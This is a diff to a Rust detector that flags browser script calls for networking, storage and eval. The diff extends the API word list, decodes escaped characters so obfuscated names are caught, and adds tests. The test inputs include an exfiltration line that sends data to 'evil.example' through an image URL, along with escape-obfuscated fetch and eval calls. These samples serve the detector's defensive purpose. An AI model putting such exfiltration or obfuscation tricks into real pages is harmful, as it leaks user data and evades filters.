@@ -4,25 +4,41 @@
 //! what this misses. What this finds, an author learns before a browser refuses it.
 
 /// Words of a script that call somebody, keep something, or run text as code.
-const WORDS: [&str; 20] = [
+const WORDS: [&str; 36] = [
     "fetch",
+    "fetchLater",
     "XMLHttpRequest",
     "WebSocket",
     "WebTransport",
     "EventSource",
     "sendBeacon",
     "RTCPeerConnection",
+    "webkitRTCPeerConnection",
+    "PushManager",
+    "geolocation",
+    "mediaDevices",
     "serviceWorker",
     "SharedWorker",
     "Worker",
     "localStorage",
     "sessionStorage",
     "indexedDB",
+    "openDatabase",
+    "getDirectory",
+    "requestFileSystem",
+    "webkitRequestFileSystem",
+    "showSaveFilePicker",
     "cookie",
     "cookieStore",
     "caches",
+    "BroadcastChannel",
     "eval",
     "Function",
+    "GeneratorFunction",
+    "AsyncFunction",
+    "WebAssembly",
+    "createContextualFragment",
+    "srcdoc",
     "import",
     "importScripts",
 ];
@@ -32,7 +48,7 @@ pub(super) fn calls(script: &str) -> Vec<String> {
     if is_data(script) {
         return Vec::new();
     }
-    let code = without_comments(script);
+    let code = without_escapes(&without_comments(script));
     let is_part = |c: char| c.is_alphanumeric() || matches!(c, '_' | '$');
     let mut calls: Vec<String> = code
         .split(|c| !is_part(c))
@@ -59,6 +75,39 @@ fn is_data(script: &str) -> bool {
         .and_then(|call| call.split_once('('))
         .filter(|(function, _)| name(function) && !WORDS.contains(function))
         .is_some_and(|(_, json)| serde_json::from_str::<serde::de::IgnoredAny>(json).is_ok())
+}
+
+/// The script with its numbered characters as themselves, so that `\u0066etch` hides nothing.
+fn without_escapes(code: &str) -> String {
+    let mut plain = String::with_capacity(code.len());
+    let mut rest = code;
+    while let Some((before, after)) = rest.split_once('\\') {
+        plain.push_str(before);
+        match numbered(after) {
+            Some((character, tail)) => {
+                plain.push(character);
+                rest = tail;
+            }
+            None => {
+                plain.push('\\');
+                rest = after;
+            }
+        }
+    }
+    plain.push_str(rest);
+    plain
+}
+
+/// The character of `u0066`, `u{66}` or `x66`, and what follows it.
+fn numbered(text: &str) -> Option<(char, &str)> {
+    let (digits, tail) = match text.strip_prefix("u{") {
+        Some(open) => open.split_once('}')?,
+        None => match text.strip_prefix('u') {
+            Some(four) => four.split_at_checked(4)?,
+            None => text.strip_prefix('x')?.split_at_checked(2)?,
+        },
+    };
+    Some((char::from_u32(u32::from_str_radix(digits, 16).ok()?)?, tail))
 }
 
 /// The script without its comments; strings are kept whole.
@@ -132,6 +181,14 @@ mod tests {
             "await import('./b.js')",
             "new Image().src = 'https://evil.example/?' + x",
             "'it\\'s // no comment'; eval(x)",
+            "\\u0066etch('a.json')",
+            "window['\\x65val'](x)",
+            "w\\u{65}b = 1; \\u{63}ookie = 2",
+            "new WebSocket(a)",
+            "new XMLHttpRequest",
+            "navigator.storage.getDirectory()",
+            "openDatabase('x')",
+            "navigator.serviceWorker.register('a.js')",
         ] {
             assert!(!calls(script).is_empty(), "{script}");
         }
